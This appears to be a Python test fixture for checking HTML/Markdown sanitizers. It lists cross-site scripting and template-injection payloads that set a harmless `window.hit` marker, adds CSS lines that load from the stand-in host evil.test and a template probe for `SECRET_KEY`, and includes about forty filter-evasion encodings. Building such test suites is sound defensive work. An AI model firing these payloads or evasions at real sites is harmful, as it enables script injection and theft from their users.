"""Texts made to run something, for everything that shows what somebody else wrote. `window.hit` tells that one did."""

from __future__ import annotations

import itertools
from collections.abc import Callable
from urllib.parse import quote

MARKUP = [
    "<script>window.hit=1</script>",
    "<img src=x onerror=window.hit=1>",
    "<svg/onload=window.hit=1>",
    "<iframe src=javascript:window.hit=1>",
    "<style>*{display:none}</style>",
    "<a href='javascript:window.hit=1'>x</a>",
    '<a href="java\nscript:window.hit=1">x</a>',
    "<link url='javascript:window.hit=1' pc_url='data:text/html,x'>x</link>",
    "[x](javascript:window.hit=1)",
    "[x](JaVaScRiPt:window.hit=1)",
    "[x](&#106;avascript:window.hit=1)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](javascript:window.hit=1)",
    "<font color='red;background:url(javascript:window.hit=1)'>x</font>",
    "<text_tag color='\"><script>window.hit=1</script>'>x</text_tag>",
    "<number_tag url='vbscript:x' background_color='expression(1)'>1</number_tag>",
    "<person id='<img src=x onerror=window.hit=1>'></person>",
    "<at id='\"onmouseover=window.hit=1'></at>",
    "<local_datetime millisecond='1' link='javascript:window.hit=1'></local_datetime>",
    "${constructor.constructor('window.hit=1')()}",
    "{{constructor.constructor('window.hit=1')()}}",
    '"><script>window.hit=1</script>',
]

ADDRESSES = [
    "javascript:window.hit=1",
    "  javascript:window.hit=1",
    "data:text/html,<script>window.hit=1</script>",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='window.hit=1'/>",
    "vbscript:window.hit=1",
    "blob:http://foreign.test/x",
    "//evil.test/x",
    "https://evil.test/x.png",
    "feed:javascript:window.hit=1",
    "view-source:javascript:window.hit=1",
    "1px;background:url(javascript:window.hit=1)",
    "rgba(0,0,0,0);behavior:url(#x)",
    "rgba(0,0,0,expression(window.hit=1))",
    "__proto__",
    "constructor",
]

# What aims at a page rather than a card: out of an attribute, a script, a style, a template, or a picture.
ATTRIBUTES = [
    '" onmouseover=window.hit=1 x="',
    "' onfocus=window.hit=1 autofocus x='",
    "` onclick=window.hit=1 x=`",
    '"><img src=x onerror=window.hit=1>',
    "'/><svg onload=window.hit=1>",
    '" style="background:url(javascript:window.hit=1)" x="',
    '" formaction=javascript:window.hit=1 x="',
    " accesskey=x onclick=window.hit=1 ",
    "\u2028onload=window.hit=1",
]
SCRIPTS = [
    "</script><script>window.hit=1</script>",
    "</ScRiPt ><img src=x onerror=window.hit=1>",
    "<!--<script>",
    "<!--<script></script>-->",
    "]]></script><svg onload=window.hit=1>",
    "\\u003c/script\\u003e",
    '"};window.hit=1;{"',
    "\u2028window.hit=1//",
    "\\';window.hit=1//",
]
PICTURES = [
    "<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:window.hit=1></svg>",
    "<svg><a xlink:href=javascript:window.hit=1><text>x</text></a></svg>",
    "<svg><foreignObject><body onload=window.hit=1></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=window.hit=1/>#x'>",
    "<math><mi xlink:href=javascript:window.hit=1>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hit=1>",
    "<video><source onerror=window.hit=1></video>",
    "<details open ontoggle=window.hit=1>",
]
STYLES = [
    "</style><script>window.hit=1</script>",
    "x;background:url(https://evil.test/x)",
    "red}*{background:url(//evil.test/x)}",
    "@import '//evil.test/x.css';",
    "expression(window.hit=1)",
    "-moz-binding:url(//evil.test/x#y)",
    '<div style="animation:x" onanimationstart=window.hit=1>',
]
TEMPLATES = [
    "{{ 7*7 }}",
    "{% for x in y %}",
    "{{ request.__class__.__mro__ }}",
    "{{ config }}{{ settings.SECRET_KEY }}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%(name)s %s %d {0} {x.__class__}",
]
# Ways around checks that look at a text only as it is written.
DISGUISES: list[Callable[[str], str]] = [
    str,
    str.upper,
    str.swapcase,
    lambda text: text.replace("javascript", "java\tscript"),
    lambda text: text.replace("javascript", "java\nscript").replace("data:", "da\rta:"),
    lambda text: text.replace("javascript:", "javascript&colon;"),
    lambda text: text.replace("script", "&#115;cript"),
    lambda text: "".join(f"&#{ord(character)};" for character in text),
    lambda text: "".join(f"&#x{ord(character):x};" for character in text),
    lambda text: quote(text),
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: text.replace("<", "\\u003c"),
    lambda text: text.replace("'", '"'),
    lambda text: text.replace(" ", "/"),
    lambda text: text.replace(" ", "\x0c"),
    lambda text: f"\x00{text}",
    lambda text: f"\u200b\ufeff{text}",
    lambda text: text.replace("window", "win\x00dow"),
    lambda text: f" \x01{text}",
    lambda text: text[::-1] + text,
    lambda text: f"**{text}**",
    lambda text: f"[{text}]({text})",
    lambda text: f"![{text}]({text})",
    lambda text: f"<a href={text}>{text}</a>",
    lambda text: f"<font color={text}>{text}",
    lambda text: f"<link url='{text}' icon='{text}'>{text}</link>",
    lambda text: f"<at id={text}></at><person id='{text}'></person>",
    lambda text: f"```{text}\n{text}\n```",
    lambda text: f"|{text}|\n|-|\n|{text}|",
    lambda text: f"> - {text}\n# {text}",
    lambda text: f"`{text}` <raw>{text}</raw>",
    lambda text: f"<number_tag url='{text}'>{text}</number_tag><audio file_key='{text}'></audio>",
    lambda text: f"<local_datetime millisecond='{text}' format_type='{text}' link='{text}'></local_datetime>",
    lambda text: f"${{{text}}}",
    lambda text: f'"{text}"',
    lambda text: f"'-{text}-'",
    lambda text: f"]]>{text}<![CDATA[",
    lambda text: f"</style>{text}</title></textarea>",
    lambda text: f"<!--{text}-->--!>{text}",
    lambda text: text * 3,
]


def disguised(payloads: list[str]) -> list[str]:
    return sorted({disguise(payload) for payload, disguise in itertools.product(payloads, DISGUISES)})


PAYLOADS = disguised(MARKUP + ADDRESSES)
PLAIN = [*MARKUP, *ADDRESSES, *ATTRIBUTES, *SCRIPTS, *PICTURES, *STYLES, *TEMPLATES]
# For pages, which take longer: everything as it is, and a fifth of its disguises.
FOR_PAGES = [*PLAIN, *disguised(PLAIN)[::5]]
